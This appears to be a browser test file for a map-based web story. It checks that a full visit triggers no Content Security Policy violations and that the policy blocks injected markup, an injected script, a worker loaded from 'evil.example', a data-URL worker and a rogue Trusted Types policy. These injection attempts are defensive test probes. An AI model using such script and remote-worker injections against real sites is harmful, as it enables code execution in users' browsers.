import { expect, isPhone, test } from './driver.ts';

test.skip(isPhone, 'the same on any screen: once is enough');

test('a whole visit breaks no rule of the policy', async ({ reader }) => {
  const told = await reader.watchPolicy();
  await reader.openStory({ language: 'en' });
  await reader.mapIdle();
  await reader.choosePlaceInList('Toretsk');
  await reader.toggleTheme();
  await reader.chooseLanguage('українська');
  await reader.mapIdle();
  await reader.page.getByRole('button', { name: 'Поділитися або вбудувати' }).click();
  const preview = reader.page.frameLocator('dialog iframe, [role="dialog"] iframe');
  await expect(preview.getByRole('heading', { level: 1 })).toBeVisible();
  expect(await told()).toEqual([]);
  expect(reader.requestsElsewhere()).toEqual([]);
});

test('the policy lets the still be drawn, and stops what is not ours', async ({ reader }) => {
  const told = await reader.watchPolicy();
  await reader.withoutWebGL();
  await reader.openStory({ language: 'en' });
  await expect(reader.picture).toBeVisible();
  // The still is drawn within it.
  expect(await told()).toEqual([]);
  const stopped = await reader.page.evaluate(() => {
    const tries: Record<string, () => unknown> = {
      markup: () => {
        document.createElement('p').innerHTML = '<b>x</b>';
      },
      code: () => {
        const script = document.createElement('script');
        script.text = 'window.hacked = 1';
        document.head.append(script);
      },
      worker: () => new Worker('https://evil.example/worker.js'),
      'data worker': () => new Worker('data:text/javascript,1'),
      policy: () =>
        (
          window as unknown as {
            trustedTypes: { createPolicy(name: string, rules: object): unknown };
          }
        ).trustedTypes.createPolicy('mine', {}),
    };
    return Object.entries(tries).flatMap(([name, run]) => {
      try {
        run();
        return [];
      } catch {
        return [name];
      }
    });
  });
  expect(stopped).toEqual(['markup', 'code', 'worker', 'data worker', 'policy']);
  expect(await told()).not.toEqual([]);
});
